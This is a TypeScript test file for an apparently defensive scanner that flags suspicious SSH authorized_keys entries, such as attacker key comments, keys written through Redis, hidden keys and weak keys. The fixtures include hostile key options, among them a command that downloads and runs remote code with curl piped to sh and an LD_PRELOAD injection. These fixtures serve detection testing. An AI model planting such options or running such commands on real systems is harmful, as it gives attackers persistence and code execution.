import { execFileSync } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import { chmodSync, chownSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { lacks } from '../../../test/need.ts';
import { basePasswd, makeRoot, scanRoot, scanWithout, shown } from '../../../test/throwaway-root.ts';
import { sshKeys } from './check.ts';
import { keyOf } from './keys.ts';

const word = (bytes: Buffer | string): Buffer => { const value = Buffer.from(bytes); const length = Buffer.alloc(4); length.writeUInt32BE(value.length); return Buffer.concat([length, value]); };
/** A made-up ed25519 key: 32 bytes of the number. */
const key = (n: number): string => `ssh-ed25519 ${Buffer.concat([word('ssh-ed25519'), word(Buffer.alloc(32, n))]).toString('base64')}`;
const rsa = (bits: number): string => {
  const { n } = generateKeyPairSync('rsa', { modulusLength: bits }).publicKey.export({ format: 'jwk' });
  return `ssh-rsa ${Buffer.concat([word('ssh-rsa'), word(Buffer.from([1, 0, 1])), word(Buffer.concat([Buffer.alloc(1), Buffer.from(n!, 'base64url')]))]).toString('base64')}`;
};
const told = async (text: string | Buffer, path = '/root/.ssh/authorized_keys', more = {}) => (await scanRoot([sshKeys], { [path]: { text }, ...more })).findings.map(({ kind, level, path: at }) => `${kind} ${level} ${at}`);
const root = '/root/.ssh/authorized_keys';

describe('ssh-keys', () => {
  it('finds keys of attackers, written by databases, and hidden ones', async () => {
    expect(await told(`${key(1)} mdrfckr\n`)).toEqual([`intrusion critical ${root}`]);
    expect(await told(Buffer.from(`REDIS0009\xfa\tredis-ver\0\0x\n\n\n${key(1)} a@b\n\n\0`, 'latin1'))).toContain(`intrusion critical ${root}`);
    expect(await told(`${key(1)} root@kali\n`)).toEqual([`intrusion medium ${root}`]);
    expect(await told(`${key(1)} a@b${'\n'.repeat(60)}${key(2)} c@d\n`)).toEqual([`intrusion medium ${root}`]);
    expect(await told(`${' '.repeat(200)}${key(2)} c@d\n`)).toEqual([`intrusion high ${root}`]);
    expect(await told(`# lin's key\n${key(1)} a\r${key(2)} b\n`)).toEqual([`intrusion high ${root}`]);
  });

  it('judges options', async () => {
    expect(await told(`command="curl http://203.0.113.5/x|sh; $SHELL" ${key(1)} a\n`)).toEqual([`intrusion high ${root}`]);
    expect(await told(`environment="LD_PRELOAD=/lib/x.so",no-pty ${key(1)} a\n`)).toEqual([`intrusion high ${root}`]);
    expect(await told(`cert-authority ${key(1)} a\n`)).toEqual([`notice low ${root}`]);
    expect(await told(`from="192.0.2.0/24",command="rsync --server --sender . /srv",restrict ${key(1)} backup@nas\n`)).toEqual([]);
  });

  it('finds keys of daemons and the same key under several accounts', async () => {
    expect(await told(`${key(1)} x\n`, '/var/www/.ssh/authorized_keys')).toEqual(['intrusion medium /var/www/.ssh/authorized_keys']);
    expect(await told(`${key(1)} x\n`, '/home/lin/.ssh/authorized_keys')).toEqual([]);
    expect(await told(`${key(1)} x\n`, root, { '/home/lin/.ssh/authorized_keys2': `${key(1)} x\n` })).toEqual([`weakness low ${root}`]);
    const git = { '/etc/passwd': `${basePasswd}git:x:110:110::/srv/git:/bin/bash\n` };
    expect(await told(`${key(1)} x\n`, '/srv/git/.ssh/authorized_keys', git)).toEqual(['notice low /srv/git/.ssh/authorized_keys']);
    expect(await told(`command="/usr/bin/git-shell",restrict ${key(1)} x\n`, '/srv/git/.ssh/authorized_keys', git)).toEqual([]);
  });

  it('goes where sshd_config sends it, and to homes that no account has any more', async () => {
    const report = await scanRoot([sshKeys], {
      '/etc/ssh/sshd_config': 'AuthorizedKeysFile /opt/keys/%u %h/.k\n', '/opt/keys/lin': `${key(1)} mdrfckr\n`, '/root/.k': `${key(2)} mdrfckr\n`, '/home/gone/.ssh/authorized_keys': `${key(3)} mdrfckr\n`, '/etc/ssh/authorized_keys.d/old': `${key(4)} mdrfckr\n`,
    });
    expect(shown(report)).toEqual(['critical /etc/ssh/authorized_keys.d/old', 'critical /home/gone/.ssh/authorized_keys', 'critical /opt/keys/lin', 'critical /root/.k']);
  });

  it('finds weak and old keys and files of others', async () => {
    expect(await told(`${rsa(1024)} a\n${rsa(2048)} b\n`)).toEqual([`weakness medium ${root}`]);
    const planted = makeRoot({ [root]: { text: `${key(1)} a\n`, mode: 0o666 } });
    expect(shown(await scanRoot([sshKeys], planted))).toEqual([`high ${root}`]);
    chmodSync(join(planted, root), 0o600);
    expect(shown(await scanRoot([sshKeys], planted))).toEqual([]);
    const { Date: real } = globalThis;
    const later = real.now() + 100 * 86_400_000;
    const now = real.now;
    real.now = () => later;
    try { expect(shown(await scanRoot([sshKeys], planted))).toEqual([`low ${root}`]); } finally { real.now = now; }
  });

  it.skipIf(lacks({ root: true }))('finds a file that belongs to somebody else, and says what it could not read', async () => {
    const planted = makeRoot({ '/home/lin/.ssh/authorized_keys': `${key(1)} a\n` });
    chownSync(join(planted, 'home/lin/.ssh/authorized_keys'), 1234, 0);
    expect(shown(await scanRoot([sshKeys], planted))).toEqual(['high /home/lin/.ssh/authorized_keys']);
    const hidden = await scanWithout([sshKeys], makeRoot({ '/home/lin/.ssh/authorized_keys': `${key(1)} a\n` }), '/home/lin/.ssh/authorized_keys');
    expect(hidden.blind.map(({ what }) => what)).toEqual(['/home/lin/.ssh/authorized_keys']);
  });

  it.skipIf(lacks({ root: true, files: ['/usr/bin/chattr'] }))('finds a key file that is locked', async (test) => {
    const planted = makeRoot({ [root]: `${key(1)} a\n` });
    const at = join(planted, root);
    try { execFileSync('chattr', ['+i', at], { stdio: 'ignore' }); } catch { test.skip('the file system keeps no such flag'); }
    onTestFinished(() => { execFileSync('chattr', ['-i', at]); });
    expect(shown(await scanRoot([sshKeys], planted))).toEqual([`medium ${root}`]);
  });

  it.skipIf(lacks({ files: ['/usr/bin/ssh-keygen'] }))('reads keys as ssh-keygen does', () => {
    const folder = makeRoot();
    for (const [type, bits] of [['ed25519', '256'], ['rsa', '3072'], ['ecdsa', '384']] as const) {
      const file = join(folder, type);
      execFileSync('ssh-keygen', ['-q', '-t', type, '-b', bits, '-N', '', '-C', 'a b', '-f', file]);
      writeFileSync(`${file}.opt`, `command="echo \\"a b\\"",no-pty ${execFileSync('cat', [`${file}.pub`], { encoding: 'utf8' })}`);
      const shownBySsh = execFileSync('ssh-keygen', ['-lf', `${file}.pub`], { encoding: 'utf8' }).split(' ');
      const parsed = keyOf(execFileSync('cat', [`${file}.opt`], { encoding: 'utf8' }).trim(), 1)!;
      expect([parsed.fingerprint, parsed.comment, parsed.bits ?? Number(bits)]).toEqual([shownBySsh[1], 'a b', Number(shownBySsh[0])]);
      expect(parsed.options).toEqual([{ name: 'command', value: 'echo "a b"' }, { name: 'no-pty', value: undefined }]);
    }
  });

  it('bears hostile files', async () => {
    expect(keyOf('"'.repeat(100_000), 1)).toBeUndefined();
    expect(keyOf(`ssh-rsa ${Buffer.from([255, 255, 255, 255, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]).toString('base64')}`, 1)).toBeUndefined();
    const report = await scanRoot([sshKeys], { [root]: `${'\n '.repeat(200_000)}${'ssh-rsa A\n'.repeat(10_000)}` });
    expect(report.findings).toEqual([]);
    const junk = await scanRoot([sshKeys], { [root]: 'ssh-rsa A\n'.repeat(1000) });
    expect(junk.counts['lines of key files that are no key']).toBe(1000);
  });
});
